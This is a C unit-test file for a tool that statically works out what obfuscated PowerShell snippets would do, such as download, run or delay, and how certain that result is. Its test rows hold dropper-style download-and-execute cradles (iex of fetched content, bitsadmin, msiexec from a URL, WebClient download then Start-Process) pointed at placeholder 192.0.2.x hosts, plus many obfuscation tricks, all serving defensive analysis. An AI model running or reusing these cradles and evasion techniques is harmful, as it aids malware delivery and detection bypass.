/* SPDX-License-Identifier: Apache-2.0 */
/* Scripts by hand: what they do, and how certain that is. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include "unmask/effect_rows.h"

static const struct effect_row cases[] = {
    { "list of urls", "powershell", "$u='http://192.0.2.1/a@http://192.0.2.2/b'.Split('@');foreach($i in $u){try{(New-Object Net.WebClient).DownloadFile($i,'x.txt');break}catch{}}", EFFECT_DOWNLOAD, "url", "http://192.0.2.1/a", KNOWN },
    { "size check is passed", "powershell", "$w=&('new'+'-obj'+'ect') net.webclient;foreach($i in ('http://192.0.2.1/a*http://192.0.2.2/b').\"s`pLIt\"([char]42)){try{$w.\"dOWN`loADfi`le\"($i,'x.exe');If((.('Ge'+'t-It'+'em') 'x.exe').\"l`eng`th\" -ge 31000){Start-Process 'x.exe';break}}catch{}}", EFFECT_DOWNLOAD, "url", "http://192.0.2.2/b", CONDITIONAL },
    { "the file is run", "powershell", "$w=New-Object Net.WebClient;$w.DownloadFile('http://192.0.2.1/a','x.exe');if((Get-Item 'x.exe').length -ge 31000){Start-Process 'x.exe'}", EFFECT_RUN, "command", "x.exe", CONDITIONAL },
    { "environment", "powershell", "$p=$env:temp+'\\'+'123'+'.exe';Start-Process $p", EFFECT_RUN, "command", "%temp%\\123.exe", KNOWN },
    { "format", "powershell", "Start-Process ('{1}{0}' -f 'lc','ca')", EFFECT_RUN, "command", "calc", KNOWN },
    { "call of a formatted name", "powershell", "&('{1}{0}' -f 'rocess','Start-P') calc", EFFECT_RUN, "command", "calc", KNOWN },
    { "join of numbers", "powershell", "Start-Process ([char[]](99,97,108,99) -join '')", EFFECT_RUN, "command", "calc", KNOWN },
    { "pipeline of numbers", "powershell", "Start-Process ((99,97,108,99 | %{[char]$_}) -join '')", EFFECT_RUN, "command", "calc", KNOWN },
    { "bxor", "powershell", "Start-Process ((98,96,109,98 | foreach-object {[char]($_ -bxor 1)}) -join '')", EFFECT_RUN, "command", "calc", KNOWN },
    { "reversed", "powershell", "$s='clac';Start-Process ($s[-1..-4] -join '')", EFFECT_RUN, "command", "calc", KNOWN },
    { "replace in brackets", "powershell", "Start-Process ('cXalXc'.Replace('X',''))", EFFECT_RUN, "command", "calc", KNOWN },
    { "creplace", "powershell", "Start-Process ('c~al~c' -creplace '~','')", EFFECT_RUN, "command", "calc", KNOWN },
    { "iex of a name in pieces", "powershell", "&((gv '*mdr*').name[3,11,2]-join'') 'Start-Process calc'", EFFECT_RUN, "command", "calc", KNOWN },
    { "iex behind a pipe", "powershell", "'Start-Process calc'|iex", EFFECT_RUN, "command", "calc", KNOWN },
    { "verbosepreference", "powershell", ".($verbosepreference.tostring()[1,3]+'x'-join'') 'Start-Process calc'", EFFECT_RUN, "command", "calc", KNOWN },
    { "base64", "powershell", "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('U3RhcnQtUHJvY2VzcyBjYWxj')))", EFFECT_RUN, "command", "calc", KNOWN },
    { "text in a text", "powershell", "$a='al';Start-Process \"c$($a)c\"", EFFECT_RUN, "command", "calc", KNOWN },
    { "random is not known", "powershell", "$r=Get-Random;Start-Process \"a$r\"", EFFECT_RUN, "command", "a⟂", PARTIAL },
    { "open condition", "powershell", "if($x -eq (Get-Date)){Start-Process calc}", EFFECT_RUN, "command", "calc", CONDITIONAL },
    { "condition that does not hold", "powershell", "if(1 -eq 2){Start-Process calc}", EFFECT_RUN, "command", "", NONE },
    { "secure string", "powershell", "iex ([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($('76492d1116743f0423413b16050a5345MgB8AEEAQQBFAEMAQQB3AFEARgBCAGcAYwBJAEMAUQBvAEwARABBADAATwBEAHcAPQA9AHwAYgBhAGYAYwBlAGEANgA5ADIANABkAGQANQBkAGUAYQA5ADAAMQAxAGIANQBiAGUAMgAzADEAOQBkADMAZABiAGQAZgA1AGMAMQBkAGQAZAAwADYAZgA0AGIAYgA3ADUAMwA0ADMAOAA0AGYAMwA5ADYAMwBkADAANQAxADUAYgA='|ConvertTo-SecureString -k 1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16))))", EFFECT_DELAY, "value", "7", KNOWN },
    { "secure string by a member's place", "powershell", "([Runtime.InteropServices.Marshal]::([Runtime.InteropServices.Marshal].GetMembers()[5].name).invoke([Runtime.InteropServices.Marshal]::SecureStringToBSTR($('76492d1116743f0423413b16050a5345MgB8AEEAQQBFAEMAQQB3AFEARgBCAGcAYwBJAEMAUQBvAEwARABBADAATwBEAHcAPQA9AHwAYgBhAGYAYwBlAGEANgA5ADIANABkAGQANQBkAGUAYQA5ADAAMQAxAGIANQBiAGUAMgAzADEAOQBkADMAZABiAGQAZgA1AGMAMQBkAGQAZAAwADYAZgA0AGIAYgA3ADUAMwA0ADMAOAA0AGYAMwA5ADYAMwBkADAANQAxADUAYgA=' | .('ConvertTo-Secure'+'String') -KeY 1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16))))|.('i'+'ex')", EFFECT_DELAY, "value", "7", KNOWN },
    { "secure string with another key", "powershell", "iex ([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($('76492d1116743f0423413b16050a5345MgB8AEEAQQBFAEMAQQB3AFEARgBCAGcAYwBJAEMAUQBvAEwARABBADAATwBEAHcAPQA9AHwAYgBhAGYAYwBlAGEANgA5ADIANABkAGQANQBkAGUAYQA5ADAAMQAxAGIANQBiAGUAMgAzADEAOQBkADMAZABiAGQAZgA1AGMAMQBkAGQAZAAwADYAZgA0AGIAYgA3ADUAMwA0ADMAOAA0AGYAMwA5ADYAMwBkADAANQAxADUAYgA='|ConvertTo-SecureString -k 1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,17))))", EFFECT_DELAY, "value", "", NONE },
    { "credential", "powershell", "$c=New-Object Management.Automation.PSCredential 'x',('76492d1116743f0423413b16050a5345MgB8AEEAQQBFAEMAQQB3AFEARgBCAGcAYwBJAEMAUQBvAEwARABBADAATwBEAHcAPQA9AHwAYgBhAGYAYwBlAGEANgA5ADIANABkAGQANQBkAGUAYQA5ADAAMQAxAGIANQBiAGUAMgAzADEAOQBkADMAZABiAGQAZgA1AGMAMQBkAGQAZAAwADYAZgA0AGIAYgA3ADUAMwA0ADMAOAA0AGYAMwA5ADYAMwBkADAANQAxADUAYgA='|ConvertTo-SecureString -Key (1..16));iex $c.GetNetworkCredential().Password", EFFECT_DELAY, "value", "7", KNOWN },
    { "deflate", "powershell", "&((gv '*mdr*').Name[3,11,2]-join'')(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('Cy5JLCrRDc5JTS1QMAcA'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()", EFFECT_DELAY, "value", "7", KNOWN },
    { "deflate in a pipeline", "powershell", "iex ((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('Cy5JLCrRDc5JTS1QMAcA'),[IO.Compression.CompressionMode]::Decompress)|%{New-Object IO.StreamReader($_,[Text.Encoding]::ASCII)}).ReadToEnd())", EFFECT_DELAY, "value", "7", KNOWN },
    { "a variable by its drive", "powershell", "Set-Item ('vari'+'able:q') ([type]('{1}{0}'-f'ronment','Envi'));Start-Process ((Get-ChildItem variable:Q).Value::('ExpandEnvironmentVariables').Invoke('%public%'))", EFFECT_RUN, "command", "%public%", KNOWN },
    { "a dollar that replaces", "powershell", "Start-Process ('xHa-c' -creplace 'xH',[char]36 -replace '-','')", EFFECT_RUN, "command", "$ac", KNOWN },
    { "a group of the match is not known", "powershell", "Start-Process ('calc' -replace '(c)','$1$1')", EFFECT_RUN, "command", "⟂", PARTIAL },
    { "characters that are replaced", "powershell", "Start-Process ('c~a^lc' -replace '[~^]','')", EFFECT_RUN, "command", "calc", KNOWN },
    { "each turn may be the first that succeeds", "powershell", "foreach($u in 'http://192.0.2.1/a','http://192.0.2.2/b'){try{(New-Object Net.WebClient).DownloadFile($u,'x.txt');break}catch{}}", EFFECT_DOWNLOAD, "url", "http://192.0.2.2/b", CONDITIONAL },
    { "behind the loop is certain", "powershell", "foreach($u in 'http://192.0.2.1/a','http://192.0.2.2/b'){try{(New-Object Net.WebClient).DownloadFile($u,'x.txt');break}catch{}}\nStart-Sleep 7", EFFECT_DELAY, "value", "7", KNOWN },
    { "return in a loop", "powershell", "function f{foreach($u in 1,2){return $u}\n9};Start-Process (\"a\"+(f))", EFFECT_RUN, "command", "a1", KNOWN },
    { "continue", "powershell", "foreach($i in 1..3){if($i -eq 2){continue};$s+=\"$i\"};Start-Process \"a$s\"", EFFECT_RUN, "command", "a13", KNOWN },
    { "for", "powershell", "$s='';for($i=3;$i -ge 0;$i--){$s+='clac'[$i]};Start-Process $s", EFFECT_RUN, "command", "calc", KNOWN },
    { "for over bytes", "powershell", "$b=[byte[]](98,96,109,98);for($i=0;$i -lt $b.Length;$i++){$b[$i]=$b[$i] -bxor 1};Start-Process ([Text.Encoding]::ASCII.GetString($b))", EFFECT_RUN, "command", "calc", KNOWN },
    { "do while", "powershell", "$i=0;do{$s+='ab'[$i];$i++}while($i -lt 2);Start-Process $s", EFFECT_RUN, "command", "ab", KNOWN },
    { "do until", "powershell", "$i=0;do{$s+='x';$i++}until($i -ge 3);Start-Process $s", EFFECT_RUN, "command", "xxx", KNOWN },
    { "switch", "powershell", "switch('b'){'a'{$x='1'}'b'{$x='calc'}default{$x='2'}};Start-Process $x", EFFECT_RUN, "command", "calc", KNOWN },
    { "switch that falls to its default", "powershell", "switch(3){1{$x='1'}default{$x='calc'}};Start-Process $x", EFFECT_RUN, "command", "calc", KNOWN },
    { "switch on what is not known", "powershell", "switch(Get-Date){1{Start-Process calc}}", EFFECT_RUN, "command", "calc", CONDITIONAL },
    { "parameters by name", "powershell", "function f($a,$b='c'){Start-Process ($a+$b)};f -b 'lc' -a 'ca'", EFFECT_RUN, "command", "calc", KNOWN },
    { "parameter that is left out", "powershell", "function f($a,$b='lc'){Start-Process ($a+$b)};f 'ca'", EFFECT_RUN, "command", "calc", KNOWN },
    { "arguments without names", "powershell", "function f{Start-Process ($args[0]+$args[1])};f 'ca' 'lc'", EFFECT_RUN, "command", "calc", KNOWN },
    { "a block with a parameter", "powershell", "&{param($a)Start-Process $a} 'calc'", EFFECT_RUN, "command", "calc", KNOWN },
    { "a block that is invoked", "powershell", "{Start-Process calc}.Invoke()", EFFECT_RUN, "command", "calc", KNOWN },
    { "a block out of a text", "powershell", "&([scriptblock]::Create('Start-Process calc'))", EFFECT_RUN, "command", "calc", KNOWN },
    { "reversed in place", "powershell", "$s='clac'.ToCharArray();[array]::Reverse($s);Start-Process ($s -join '')", EFFECT_RUN, "command", "calc", KNOWN },
    { "value of a condition", "powershell", "$x=if(1 -eq 1){'calc'}else{'b'};Start-Process $x", EFFECT_RUN, "command", "calc", KNOWN },
    { "values of a loop", "powershell", "$x=foreach($i in 99,97){[char]$i};Start-Process ($x -join '')", EFFECT_RUN, "command", "ca", KNOWN },
    { "several values of a block", "powershell", "Start-Process ((1,2|%{$_;'x'}) -join '')", EFFECT_RUN, "command", "1x2x", KNOWN },
    { "filter", "powershell", "Start-Process ((1..5|?{$_ -gt 3}) -join '')", EFFECT_RUN, "command", "45", KNOWN },
    { "variables in what is invoked", "powershell", "$a='calc';iex '$b=$a';Start-Process $b", EFFECT_RUN, "command", "calc", KNOWN },
    { "value of what is invoked", "powershell", "Start-Process (iex '''ca''+''lc''')", EFFECT_RUN, "command", "calc", KNOWN },
    { "names of signs only", "powershell", "${;}=+$();${=}=${;};${+}=++${;};Start-Process \"${=}${+}$(@{})\"[0,1,2,3]", EFFECT_RUN, "command", "0 1 S y", KNOWN },
    { "a method as text", "powershell", "$m=''.('insert');Start-Process \"$m\"[0..5]", EFFECT_RUN, "command", "s t r i n g", KNOWN },
    { "an endless FOR", "powershell", "for(;;){$a+='x'};Start-Process $a", EFFECT_RUN, "command", "⟂", PARTIAL },
    { "deep blocks", "powershell", "&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{&{1}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}", EFFECT_RUN, "command", "", NONE },
    { "a loop too long to be gone to its end", "powershell", "$u='http://192.0.2.1/a','http://192.0.2.2/b';foreach($i in $u){if((gi $i).length -gt 3){(New-Object Net.WebClient).DownloadFile($i,'x');foreach($x in 0..60000){foreach($y in 0..60000){$z=$z+1}};break}}", EFFECT_DOWNLOAD, "url", "http://192.0.2.2/b", CONDITIONAL },
    { "what such a loop has changed is not known", "powershell", "foreach($x in 0..60000){foreach($y in 0..60000){$z=$z+1}};Start-Process \"a$z\"", EFFECT_RUN, "command", "a⟂", PARTIAL },
    { "an alias", "powershell", "sal q Start-Process;q calc", EFFECT_RUN, "command", "calc", KNOWN },
    { "a command by a pattern", "powershell", "&(gcm *rt-pr*) calc", EFFECT_RUN, "command", "calc", KNOWN },
    { "a pattern that fits several", "powershell", "&(gcm *-*) calc", EFFECT_RUN, "command", "", NONE },
    { "matches from the right", "powershell", "Start-Process (([regex]::Matches('clac','.','RightToLeft')|%{$_.value}) -join '')", EFFECT_RUN, "command", "calc", KNOWN },
    { "shifts", "powershell", "Start-Process ([char](49 -shl 1)+[char](388 -shr 2))", EFFECT_RUN, "command", "ba", KNOWN },
    { "widths and hexadecimal", "powershell", "Start-Process ('{0,-3}|{1:X2}{2:d3}' -f 'a',10,7)", EFFECT_RUN, "command", "a  |0A007", KNOWN },
    { "index of", "powershell", "$s='xcalc';Start-Process $s.Substring($s.IndexOf('c'))", EFFECT_RUN, "command", "calc", KNOWN },
    { "some of a list", "powershell", "Start-Process (('c','x','a')|select -Index 0,2)", EFFECT_RUN, "command", "c a", KNOWN },
    { "a comment with a quote", "powershell", "&{# it's\nStart-Process calc}", EFFECT_RUN, "command", "calc", KNOWN },
    { "a program that fetches", "powershell", "bitsadmin /transfer j /download http://192.0.2.1/a C:\\b.txt", EFFECT_DOWNLOAD, "path", "C:\\b.txt", KNOWN },
    { "a package from afar", "powershell", "msiexec /q /i http://192.0.2.1/a", EFFECT_DOWNLOAD, "url", "http://192.0.2.1/a", KNOWN },
    { "comment", "powershell", "# Start-Process calc\n<# Start-Process calc #>", EFFECT_RUN, "command", "", NONE },
    { "what is fetched is not known", "powershell", "iex (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')", EFFECT_DOWNLOAD, "url", "http://192.0.2.1/a", KNOWN },
    { "a part of a value of the environment", "powershell", "Start-Process ('a'+($env:computername+'b').Substring(0,3))", EFFECT_RUN, "command", "a\xe2\x9f\x82", PARTIAL },
    { "a letter of a value of the environment", "powershell", "Start-Process ('a'+($env:computername)[0])", EFFECT_RUN, "command", "a\xe2\x9f\x82", PARTIAL },
    { "a value of the environment", "powershell", "Start-Process ($env:temp+'\\a.exe')", EFFECT_RUN, "command", "%temp%\\a.exe", KNOWN },
    { "a script that is written", "powershell", "Set-Content C:\\a.vbs 'CreateObject(\"WScript.Shell\").Run \"a\"'", EFFECT_RUN, "command", "a", KNOWN },
    { "a script that is written behind a pipe", "powershell", "'start calc' | Out-File \"$env:TEMP\\a.cmd\"", EFFECT_RUN, "command", "calc", KNOWN },
    { "a script that is written by .NET", "powershell", "[IO.File]::WriteAllText('a.JS','new ActiveXObject(\"WScript.Shell\").Run(\"a\")')", EFFECT_RUN, "command", "a", KNOWN },
    { "a text that is written", "powershell", "Set-Content C:\\a.txt 'start calc'", EFFECT_RUN, "command", "", NONE },
    { "what is fetched runs", "powershell", "iex (iwr http://192.0.2.1/a)", EFFECT_RUN, "url", "http://192.0.2.1/a", KNOWN },
    { "what is fetched runs behind a pipe", "powershell", "irm http://192.0.2.1/a | iex", EFFECT_RUN, "url", "http://192.0.2.1/a", KNOWN },
    { "a part of what is fetched runs", "powershell", "$x=(iwr http://192.0.2.1/a).Content.Trim(); &('i'+'ex') $x", EFFECT_RUN, "url", "http://192.0.2.1/a", KNOWN },
    { "what is fetched becomes a block", "powershell", "&([scriptblock]::Create((New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')))", EFFECT_RUN, "url", "http://192.0.2.1/a", KNOWN },
    { "bytes that are fetched run as text", "powershell", "[Text.Encoding]::UTF8.GetString((New-Object Net.WebClient).DownloadData('http://192.0.2.1/a'))|iex", EFFECT_RUN, "url", "http://192.0.2.1/a", KNOWN },
    { "what a file holds runs, and something is fetched", "powershell", "$r=irm http://192.0.2.1/a; iex (gc a.ps1)", EFFECT_RUN, "url", "", NONE },
    { "what is fetched is shown", "powershell", "$r=irm http://192.0.2.1/a; Write-Host $r.name", EFFECT_RUN, "url", "", NONE },
    { "Invoke-WebRequest", "powershell", "iwr -Uri http://192.0.2.1/a -OutFile b.txt", EFFECT_DOWNLOAD, "path", "b.txt", KNOWN },
    { "bits", "powershell", "Start-BitsTransfer -Source 'http://192.0.2.1/a' -Destination 'b.txt'", EFFECT_DOWNLOAD, "path", "b.txt", KNOWN },
    { "wmi", "powershell", "([wmiclass]'win32_Process').Create('calc')", EFFECT_RUN, "command", "calc", KNOWN },
    { "a function", "powershell", "function f($t){return $t.Replace('X','')}\nStart-Process (f('cXalXc'))", EFFECT_RUN, "command", "calc", KNOWN },
    { "a function with param", "powershell", "function f{param($a,$b) $a+$b}\nStart-Process (f 'ca' 'lc')", EFFECT_RUN, "command", "calc", KNOWN },
    { "a function that calls itself", "powershell", "function f($t){f $t}\nf 1", EFFECT_RUN, "command", "", NONE },
    { "a function that nobody calls", "powershell", "function f($t){Start-Process calc}", EFFECT_RUN, "command", "", NONE },
    { "deep brackets", "powershell", "((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((1", EFFECT_RUN, "command", "", NONE },
    { "endless loop", "powershell", "while($true){$a+='x'}", EFFECT_RUN, "command", "", NONE },
};

static void effects(void **state)
{
    (void)state;
    struct table t = { 0 };
    TABLE_EACH (&t, row, cases)
        effect_row_check(&t, row);
}

static const char busy[] = "$a='x{0}'-f'y';foreach($b in 1..3){try{$c+=[char]($b -bxor 1)}catch{}};if((gi x).length -ge 3){& ('ie'+'x') \"a$($b)\"}\n@{a=1};$d=@(1,2)|%{$_};[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('QQ==')).Split('@')[-1..-2]";

static void every_beginning(void **state)
{
    (void)state;
    tally_beginnings("powershell", slice_of(busy));
}

static void memory_fails_anywhere(void **state)
{
    (void)state;
    tally_starved("powershell", slice_of(busy), 200);
}

int main(void)
{
    const struct CMUnitTest tests[] = { cmocka_unit_test(effects), cmocka_unit_test(every_beginning), cmocka_unit_test(memory_fails_anywhere) };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
